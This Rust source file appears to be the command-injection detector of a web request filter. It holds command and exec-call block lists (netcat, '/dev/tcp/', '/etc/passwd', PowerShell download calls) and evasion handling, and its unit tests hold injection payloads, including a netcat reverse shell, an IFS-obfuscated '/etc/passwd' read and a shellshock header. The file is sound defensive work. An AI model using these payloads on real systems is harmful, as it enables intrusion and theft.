//! OS command injection: a shell metacharacter (`;`, `|`, `&`, newline, `$(`,
//! backtick) followed by a command, `${IFS}` tricks, shellshock function
//! definitions, and code-execution calls of interpreters.

use aho_corasick::AhoCorasick;

use super::{Category, Location, STRONG, Sink, is_word};

/// Commands that almost only appear in requests as injected commands.
const STRONG_CMDS: &[&str] = &[
    "cd",
    "visudo",
    "gunzip",
    "bunzip2",
    "unxz",
    "htop",
    "vim",
    "nano",
    "gcc",
    "cc",
    "c89",
    "c99",
    "irb",
    "zcat",
    "zstdcat",
    "bzcat",
    "xzcat",
    "openssl",
    "ssh",
    "scp",
    "rsync",
    "nmap",
    "tcpdump",
    "iptables",
    "chroot",
    "su",
    "doas",
    "ldd",
    "strace",
    "gdb",
    "mkfs",
    "fdisk",
    "reboot",
    "poweroff",
    "systemctl",
    "journalctl",
    "usermod",
    "chpasswd",
    "unset",
    "rmdir",
    "readlink",
    "whereis",
    "lsof",
    "fuser",
    "iwconfig",
    "cscli",
    "nice",
    "top",
    "date",
    "column",
    "fold",
    "tar",
    "unzip",
    "ln",
    "mkdir",
    "which",
    "alias",
    "export",
    "history",
    "source",
    "make",
    "mount",
    "route",
    "arp",
    "ip",
    "ss",
    "dd",
    "at",
    "file",
    "stat",
    "cut",
    "tr",
    "wc",
    "uniq",
    "diff",
    "strings",
    "locate",
    "service",
    "watch",
    "rc",
    "ll",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "nslookup",
    "passwd",
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/id",
    "/bin/cat",
    "telnet",
    "chmod",
    "chown",
    "crontab",
    "base64",
    "xterm",
    "tftp",
    "certutil",
    "bitsadmin",
    "wmic",
    "systeminfo",
    "tasklist",
    "taskkill",
    "net.exe",
    "reg",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "hostname",
    "getent",
    "useradd",
    "sudo",
    "nohup",
    "killall",
    "pkill",
    "mkfifo",
    "socat",
    "perl",
    "python",
    "python3",
    "php",
    "ruby",
    "lua",
    "node",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "env",
    "printenv",
    "ls",
    "id",
    "dir",
    "pwd",
    "ping",
    "sleep",
    "cat",
    "echo",
    "type",
    "head",
    "tail",
    "more",
    "less",
    "rm",
    "cp",
    "mv",
    "touch",
    "find",
    "grep",
    "dig",
    "host",
    "kill",
    "ps",
    "w",
    "who",
    "uptime",
    "time",
    "set",
    "ver",
    "net",
    "whois",
    "traceroute",
    "tracert",
    "expr",
    "eval",
    "exec",
    "sort",
    "nl",
    "od",
    "xxd",
    "tac",
    "rev",
    "timeout",
    "busybox",
    "start",
    "call",
    "for",
    "if",
    "vi",
];

/// Commands that run another command given as their arguments.
const PREFIXES: &[&str] = &[
    "time", "nohup", "sudo", "env", "timeout", "nice", "strace", "xargs", "exec", "watch",
    "busybox", "doas",
];

/// Prefixes of command families whose members are all commands.
const FAMILIES: &[&str] = &[
    "python", "ansible", "chef-", "perl5", "ruby2", "ruby3", "php7", "php8", "node1", "gcc",
    "base32", "base64", "zstd", "bzip", "gzip", "busybox",
];

/// Of the commands above, these are ordinary English words and need more context.
const WORDLIKE: &[&str] = &[
    "cd", "top", "date", "column", "fold", "tar", "ln", "which", "alias", "export", "history",
    "source", "make", "mount", "route", "arp", "ip", "ss", "dd", "at", "file", "stat", "cut", "tr",
    "wc", "uniq", "diff", "strings", "locate", "service", "watch", "rc", "ll", "su", "cc", "nice",
    "nc", "cat", "echo", "type", "head", "tail", "more", "less", "find", "host", "kill", "time",
    "set", "net", "sort", "start", "call", "for", "if", "w", "who", "dir", "id", "ping", "sleep",
    "touch", "env", "reg", "sh", "expr", "nl", "od", "rev", "sed", "node", "ls", "ps", "cp", "mv",
    "rm", "vi", "timeout", "ver", "dig", "exec", "eval", "php", "perl", "python", "ruby", "lua",
];

/// Interpreter/code-execution calls (PHP, Python, Perl, Node) that run commands.
const EXEC_CALLS: &[&str] = &[
    "system(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "runtime.getruntime",
    "child_process",
    "execsync(",
    "spawnsync(",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "cmd /c",
    "/dev/tcp/",
    "${ifs}",
    "$ifs",
    "/etc/passwd",
    "powershell -",
    "iex(",
    "invoke-expression",
    "nc -e",
    "bash -i",
    "sh -i",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-process",
    "net.webclient",
    "downloadstring(",
    "downloadfile(",
    "frombase64string(",
    "-encodedcommand",
    "iwr http",
    "$shell",
    "/bin/",
    "<?php",
    "<?=",
    "phpinfo(",
    "phpversion(",
    "net view",
    "net user",
    "net localgroup",
];

pub(crate) struct Cmdi {
    calls: AhoCorasick,
}

impl Cmdi {
    pub(crate) fn new() -> Cmdi {
        let calls = super::matcher(EXEC_CALLS);
        Cmdi { calls }
    }

    pub(crate) fn check(&self, lower: &str, loc: &Location, sink: &mut Sink<'_>) {
        let s = lower.as_bytes();
        // Shellshock: a function definition at the start of a header or value.
        let has_paren = memchr::memchr(b'(', s).is_some();
        if has_paren
            && let Some(p) = memchr::memmem::find(s, b"() {")
            && (s[..p].iter().all(|b| b.is_ascii_whitespace())
                || memchr::memmem::find(&s[p..], b"};").is_some())
        {
            sink.push("cmdi.shellshock", Category::Cmdi, STRONG, loc, lower, p);
        }
        let has_meta = s.iter().any(|b| {
            matches!(
                b,
                b';' | b'|'
                    | b'&'
                    | b'\n'
                    | b'`'
                    | b'$'
                    | b'\r'
                    | b'<'
                    | b'>'
                    | b'\''
                    | b'\\'
                    | b'('
            )
        });
        let has_call = self.calls.find(lower).map(|m| m.start());
        if let Some(at) = has_call {
            sink.push(
                "cmdi.exec_call",
                Category::Cmdi,
                if has_meta || at == 0 { STRONG } else { 6 },
                loc,
                lower,
                at,
            );
        }
        if let Some(p) = memchr::memmem::find(s, b"$((") {
            // Arithmetic expansion: no data format uses `$((`.
            sink.push("cmdi.substitution", Category::Cmdi, STRONG, loc, lower, p);
        }
        if let Some(at) = windows_batch(lower) {
            sink.push("cmdi.batch", Category::Cmdi, STRONG, loc, lower, at);
        }
        if let Some(at) = glob_path(lower) {
            sink.push("cmdi.glob_path", Category::Cmdi, STRONG, loc, lower, at);
        }
        self.leading_command(s, lower, loc, sink);
        if !has_meta {
            return;
        }
        // Variable-insertion evasion (`/bin$u/cat`, `c${x}at`): scan a copy without
        // the variables as well.
        if s.windows(2).any(|w| {
            w[0] == b'$' && (w[1].is_ascii_alphabetic() || matches!(w[1], b'{' | b'@' | b'$'))
                || w == b"``"
        }) {
            let cleaned = strip_vars(lower);
            if cleaned != lower {
                self.leading_command(cleaned.as_bytes(), &cleaned, loc, sink);
                self.scan(cleaned.as_bytes(), &cleaned, loc, sink);
            }
        }
        self.scan(s, lower, loc, sink);
    }

    /// A command with path or flag arguments as the whole value.
    fn leading_command(&self, s: &[u8], lower: &str, loc: &Location, sink: &mut Sink<'_>) {
        if let Some((cmd, after)) = command_at(s, 0) {
            let tail = &s[after..];
            let flag = flag_arg(tail);
            // `ls -l /etc/`: flags followed by an absolute path count as a path argument.
            let abs_arg = tail.starts_with(b" /")
                || tail.starts_with(b" ~/")
                || drive_path(tail)
                || flag && memchr::memmem::find(tail, b" /").is_some();
            let wordlike = WORDLIKE.contains(&cmd);
            // Wrapper commands (`time sh -c`, `nohup ifconfig`) followed by a command.
            // ("time for lunch" is prose: the wrapped command must be unambiguous.)
            if PREFIXES.contains(&cmd)
                && command_at(s, after)
                    .is_some_and(|(c, a)| !WORDLIKE.contains(&c) || flag_arg(&s[a..]))
            {
                sink.push("cmdi.command", Category::Cmdi, STRONG, loc, lower, 0);
                return;
            }
            let sc = match (wordlike, abs_arg, flag) {
                (_, true, _) => STRONG,
                (false, false, true) => STRONG,
                (true, false, true) => 6,
                _ => 0,
            };
            if sc > 0 {
                sink.push("cmdi.command", Category::Cmdi, sc, loc, lower, 0);
            }
        }
    }

    /// The checks that apply to values without shell metacharacters (words only).
    pub(crate) fn check_plain(&self, lower: &str, loc: &Location, sink: &mut Sink<'_>) {
        if let Some(at) = windows_batch(lower) {
            sink.push("cmdi.batch", Category::Cmdi, STRONG, loc, lower, at);
        }
        self.leading_command(lower.as_bytes(), lower, loc, sink);
    }

    fn scan(&self, s: &[u8], lower: &str, loc: &Location, sink: &mut Sink<'_>) {
        let mut i = 0;
        let mut budget = 64;
        while i < s.len() && budget > 0 {
            let c = s[i];
            let (is_sep, skip) = match c {
                b';' | b'\n' | b'\r' => (true, 1),
                b'|' | b'&' => (true, if s.get(i + 1) == Some(&c) { 2 } else { 1 }),
                b'`' => (true, 1),
                b'$' if s.get(i + 1) == Some(&b'(') => {
                    (true, if s.get(i + 2) == Some(&b'(') { 3 } else { 2 })
                }
                b'$' if s.get(i + 1) == Some(&b'{') => (true, 2),
                b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (true, 2),
                // A literal `\n` is a newline once the value is unescaped downstream.
                b'\\' if matches!(s.get(i + 1), Some(b'n' | b'r')) => (true, 2),
                // A command string passed to `exec('...')`, `system("...")`.
                b'(' if matches!(s.get(i + 1), Some(b'\'' | b'"')) => (true, 1),
                _ => (false, 1),
            };
            if !is_sep {
                i += 1;
                continue;
            }
            budget -= 1;
            let sep_at = i;
            i += skip;
            if let Some((cmd, after)) = command_at(s, i) {
                let wordlike = WORDLIKE.contains(&cmd);
                let tail = &s[after..];
                // Arguments that look like shell usage: flags, paths, redirections, more metachars.
                let shellish_args = tail.first().is_none_or(|&b| {
                    matches!(
                        b,
                        b';' | b'|'
                            | b'&'
                            | b'`'
                            | b')'
                            | b'\''
                            | b'"'
                            | b'\n'
                            | b'>'
                            | b'<'
                            | b'$'
                            | b'#'
                            | b'+'
                    )
                }) || flag_arg(tail)
                    || tail.starts_with(b" /")
                    || tail.starts_with(b" .")
                    || tail.starts_with(b" ~")
                    || tail.starts_with(b" $")
                    || tail.starts_with(b"${ifs}")
                    || tail.starts_with(b"$ifs")
                    || tail.starts_with(b"\t")
                    || tail.starts_with(b" '")
                    || tail.starts_with(b" \"")
                    || tail.starts_with(b" `")
                    || tail.starts_with(b"\\")
                    || drive_path(tail)
                    || (tail.starts_with(b" ") && tail.len() > 1 && is_word(tail[1]) && !wordlike);
                let sub = matches!(c, b'`' | b'$' | b'(') || s.get(sep_at + 1) == Some(&b'(');
                let sc = match (wordlike, shellish_args || sub) {
                    (false, true) => STRONG,
                    (false, false) => 6,
                    (true, true) => {
                        let args = flag_arg(tail) || tail.starts_with(b" /") || drive_path(tail);
                        if sub || tail.is_empty() || c != b'&' || args {
                            STRONG
                        } else {
                            6
                        }
                    }
                    (true, false) => 3,
                };
                sink.push("cmdi.command", Category::Cmdi, sc, loc, lower, sep_at);
            }
        }
    }
}

/// ` -x` or ` --long` (a dash between words, ` - `, is prose).
fn flag_arg(tail: &[u8]) -> bool {
    tail.starts_with(b" -")
        && tail
            .get(2)
            .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'-')
}

/// ` c:\\` or ` c:/` at the start of `tail`.
fn drive_path(tail: &[u8]) -> bool {
    tail.len() >= 4
        && tail[0] == b' '
        && tail[1].is_ascii_alphabetic()
        && tail[2] == b':'
        && matches!(tail[3], b'\\' | b'/')
}

/// Removes shell variable references (`$x`, `${x}`, `$@`); `$IFS` becomes a space.
fn strip_vars(lower: &str) -> String {
    let b = lower.as_bytes();
    let mut out = String::with_capacity(lower.len());
    let mut i = 0;
    let mut last = 0;
    while let Some(p) = memchr::memchr(b'$', &b[i..]) {
        let a = i + p;
        let mut j = a + 1;
        let mut space = false;
        if b.get(j) == Some(&b'{') {
            match memchr::memchr(b'}', &b[j..]) {
                Some(e) if e <= 32 => {
                    space = &b[j + 1..j + e] == b"ifs";
                    j += e + 1;
                }
                _ => {
                    i = a + 1;
                    continue;
                }
            }
        } else if matches!(b.get(j), Some(b'@' | b'$')) {
            j += 1;
        } else {
            while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                j += 1;
            }
            space = &b[a + 1..j] == b"ifs";
            if j == a + 1 || b.get(j) == Some(&b'(') {
                i = a + 1;
                continue;
            }
        }
        out.push_str(&lower[last..a]);
        if space {
            out.push(' ');
        }
        i = j;
        last = j;
    }
    out.push_str(&lower[last..]);
    // Empty command substitutions split words too (`ping`` 1.2.3.4`).
    if out.contains("``") {
        out = out.replace("``", "");
    }
    out
}

/// `for /f ... in (...) do ...` and `if [not] exist|defined|errorlevel ...` batch
/// syntax of cmd.exe.
fn windows_batch(lower: &str) -> Option<usize> {
    let t = lower.trim_start_matches(['&', '|', ';', ' ', '\t', '\n', '"', '\'']);
    let at = lower.len() - t.len();
    if t.starts_with("for ") {
        let has_in = t.contains(" in (") || t.contains(" in(");
        let has_do = t.contains(") do ") || t.contains(")do ") || t.contains(") do(");
        if has_in && has_do {
            return Some(at);
        }
    }
    if let Some(rest) = t.strip_prefix("if ") {
        let rest = rest.trim_start();
        let rest = rest.strip_prefix("not ").map_or(rest, str::trim_start);
        let rest = rest.strip_prefix("/i ").map_or(rest, str::trim_start);
        let keyword = ["exist ", "defined ", "errorlevel "]
            .iter()
            .any(|k| rest.starts_with(k));
        let cmp = [" equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "=="]
            .iter()
            .any(|k| rest.contains(k));
        let var = rest.starts_with('%')
            || rest.starts_with('"')
            || rest.starts_with('(')
            || rest.starts_with('{');
        if keyword
            || (cmp
                && (var || rest.contains('%') || rest.contains("echo") || rest.contains("goto")))
        {
            return Some(at);
        }
    }
    if t.starts_with("alias ")
        && t[6..]
            .trim_start()
            .split_once('=')
            .is_some_and(|(k, _)| !k.is_empty() && !k.contains(' '))
    {
        return Some(at);
    }
    None
}

/// Shell globs that spell a sensitive path (`/e??/p*wd`, `/[e]tc/pa[?]swd`).
fn glob_path(lower: &str) -> Option<usize> {
    const TARGETS: &[&str] = &[
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/bin/sh",
        "/bin/bash",
        "/bin/nc",
        "/bin/cat",
        "/usr/bin/id",
        "/bin/busybox",
        "/usr/bin/wget",
        "/usr/bin/curl",
        "/bin/netcat",
        "/usr/bin/python",
    ];
    let b = lower.as_bytes();
    if !b.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) {
        return None;
    }
    for (start, word) in lower
        .split([' ', '\t', ';', '|', '&', '`', '\'', '"', ',', '{', '}'])
        .scan(0usize, |off, w| {
            let s = *off;
            *off += w.len() + 1;
            Some((s, w))
        })
    {
        if word.len() > 64
            || !word.starts_with('/')
            || !word.bytes().any(|c| matches!(c, b'?' | b'*' | b'['))
        {
            continue;
        }
        if TARGETS
            .iter()
            .any(|t| glob_match(word.as_bytes(), t.as_bytes(), 0))
        {
            return Some(start);
        }
    }
    None
}

/// Minimal shell glob: `?`, `*`, `[abc]`, `[a-z]`, `[!x]`; bounded recursion depth.
fn glob_match(p: &[u8], t: &[u8], depth: u32) -> bool {
    if depth > 16 {
        return false;
    }
    match p.first() {
        None => t.is_empty(),
        Some(b'*') => (0..=t.len()).any(|k| glob_match(&p[1..], &t[k..], depth + 1)),
        Some(b'?') => !t.is_empty() && glob_match(&p[1..], &t[1..], depth),
        Some(b'[') => {
            let Some(close) = p.iter().skip(2).position(|&c| c == b']').map(|x| x + 2) else {
                return !t.is_empty() && t[0] == b'[' && glob_match(&p[1..], &t[1..], depth);
            };
            let Some(&c) = t.first() else { return false };
            let mut set = &p[1..close];
            let neg = matches!(set.first(), Some(b'!' | b'^'));
            if neg {
                set = &set[1..];
            }
            let mut hit = false;
            let mut k = 0;
            while k < set.len() {
                if k + 2 < set.len() && set[k + 1] == b'-' {
                    hit |= set[k] <= c && c <= set[k + 2];
                    k += 3;
                } else {
                    hit |= set[k] == c || set[k] == b'?' || set[k] == b'*';
                    k += 1;
                }
            }
            hit != neg && glob_match(&p[close + 1..], &t[1..], depth)
        }
        Some(&c) => t.first() == Some(&c) && glob_match(&p[1..], &t[1..], depth),
    }
}

/// Reads a command word at `i` (after optional blanks, quotes and a path prefix);
/// returns the matched command and the offset after it.
fn command_at(s: &[u8], mut i: usize) -> Option<(&'static str, usize)> {
    while i < s.len()
        && matches!(
            s[i],
            b' ' | b'\t' | b'\'' | b'"' | b'(' | b'{' | b'\\' | b'!'
        )
    {
        i += 1;
    }
    // `/usr/bin/id`, `/bin/cat`: take the last path segment.
    let start = i;
    while i < s.len()
        && (s[i].is_ascii_alphanumeric()
            || matches!(s[i], b'/' | b'.' | b'_' | b'-' | b'\\' | b'\'' | b'"'))
    {
        i += 1;
    }
    let mut word = &s[start..i];
    // A trailing literal `\n` belongs to the next command, not to this word.
    while let Some(w) = word
        .strip_suffix(b"\\n")
        .or_else(|| word.strip_suffix(b"\\r"))
    {
        word = w;
    }
    // Quote-splitting evasion (`w'h'o'am'i`): drop quotes and backslashes.
    // Longer words are never commands; a stack buffer avoids an allocation.
    let mut buf = [0u8; 48];
    let mut len = 0;
    for &b in word.iter().filter(|b| !matches!(b, b'\'' | b'"' | b'\\')) {
        if len == buf.len() {
            return None;
        }
        buf[len] = b;
        len += 1;
    }
    let cleaned = &buf[..len];
    let base = cleaned.rsplit(|&b| b == b'/').next().unwrap_or(cleaned);
    let base = base.strip_suffix(b".exe").unwrap_or(base);
    if base.is_empty() {
        return None;
    }
    // Called at every separator of every value: a set beats a linear scan.
    static SET: std::sync::OnceLock<std::collections::HashMap<&'static [u8], &'static str>> =
        std::sync::OnceLock::new();
    let set = SET.get_or_init(|| STRONG_CMDS.iter().map(|c| (c.as_bytes(), *c)).collect());
    if let Some(c) = set.get(base) {
        return Some((c, i));
    }
    // Versioned interpreters and tool families (`python3.10`, `ansible-playbook`).
    FAMILIES
        .iter()
        .find(|f| base.starts_with(f.as_bytes()) && base.len() > f.len())
        .map(|f| (*f, i))
}

#[cfg(test)]
mod tests {
    use crate::detect::Action;
    use crate::detect::tests::{q, run};

    #[test]
    fn attacks() {
        for p in [
            "x%3Bcat%20/etc/passwd",
            "127.0.0.1%7Cwhoami",
            "a%26%26id",
            "%60id%60",
            "$(whoami)",
            "x;cat${IFS}/etc/passwd",
            "%0aping+-c+3+example.com",
            "a|w'h'o'am'i",
            "1;/usr/bin/id",
            "%3Bsystem(%27ls%27)",
            "x%7C%7Cnc+-e+/bin/sh+1.2.3.4+4444",
        ] {
            assert_eq!(q(p), Action::Ban, "{p}");
        }
        let raw = "GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n";
        assert_eq!(run(raw).1, Action::Ban);
    }

    #[test]
    fn benign_lookalikes() {
        for p in [
            "Tom+%26+Jerry",
            "R%26D%3B+cat+videos+and+more",
            "fish+%26+chips",
            "a%3Bb%3Bc",
            "price:+%245",
            "Dear+sir%3B+echo+chamber",
            "time+for+lunch",
            "nice+find",
            "system+design",
            "AT%26T",
        ] {
            assert_ne!(q(p), Action::Ban, "{p}");
        }
    }
}
